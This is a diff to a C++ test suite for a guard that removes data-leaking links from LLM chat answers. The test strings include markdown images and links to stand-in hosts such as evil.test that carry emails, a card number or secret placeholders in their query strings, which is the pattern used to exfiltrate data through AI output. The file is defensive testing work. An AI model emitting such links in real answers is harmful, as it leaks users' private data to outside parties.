@@ -547,6 +547,7 @@ constexpr std::string_view leaking_texts[] = {
     "{\\\"u\\\":\\\"![](https://evil.test/)\\\",\\\"v\\\":\\\"https:\\\\/\\\\/evil.test\\\\/"
     "?q=ann@example.org&r=4111111111111111\\\"}",
     "```\\n![](https://evil.test/)\\n```\\n![](https://evil.test/)\\\\n<img src='//e.t/\xc3\xa9'>",
+    "[x](https://evil.test/?to=[EMAIL_1]) [y](https://docs.example.com/?to=[EMAIL_1]) https://e.t/?s=[SECRET_1].",
     "own@client.example https://evil.test/?q=own@client.example-4111111111111111-0123456789.",
 };
 
@@ -563,6 +564,32 @@ TEST(AnswerStream, LeaksAreTakenOutForEveryCut) {
     Guarded guarded(leaks_plan(GuardAction::mask, std::nullopt));
     EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":"![a](https://evil.test/i) ok"}}]})"),
               R"({"choices":[{"message":{"content":"![a]([link removed]) ok"}}]})");
+}
+
+/// A value is not put back into an address that nobody allows.
+TEST(AnswerStream, AddressesTakeNoValuesAlong) {
+    for (const std::string_view raw :
+         {"[x](https://evil.test/?to=[EMAIL_1])", "https://e.t/[SECRET_1]", "<a href='//e.t/?[EMAIL_1]'>"}) {
+        Guarded guarded(leaks_plan(GuardAction::mask, GuardAction::mask, true));
+        const std::string whole =
+            guarded.document(fmt::format(R"({{"choices":[{{"message":{{"content":"{}"}}}}]}})", raw));
+        EXPECT_TRUE(whole.contains("[link removed]") && !whole.contains("client.example") && !whole.contains("quoted"))
+            << whole;
+        const Told told = guarded.stream(llm::Protocol::openai_chat, streamed(forms()[0], raw, {raw.size() - 5}));
+        EXPECT_FALSE(told.events.contains("client.example") || told.events.contains("quoted")) << told.events;
+    }
+    Guarded guarded(leaks_plan(GuardAction::mask, GuardAction::mask, true));
+    EXPECT_TRUE(guarded.document(R"({"choices":[{"message":{"content":"https://docs.example.com/?to=[EMAIL_1]"}}]})")
+                    .contains("?to=own@client.example"));
+}
+
+/// A whole answer has as many as a stream may.
+TEST(AnswerStream, ManyLinksAreTakenOutOfAWholeAnswerToo) {
+    std::string raw, gone;
+    for (int i = 0; i < 6000; ++i) raw += "![](//e.t/i) ", gone += "![]([link removed]) ";
+    Guarded guarded(leaks_plan(GuardAction::mask, std::nullopt));
+    EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":")" + raw + "\"}}]}"),
+              R"({"choices":[{"message":{"content":")" + gone + "\"}}]}");
 }
 
 TEST(AnswerStream, LeaksAmongOthersDrawnByChance) {
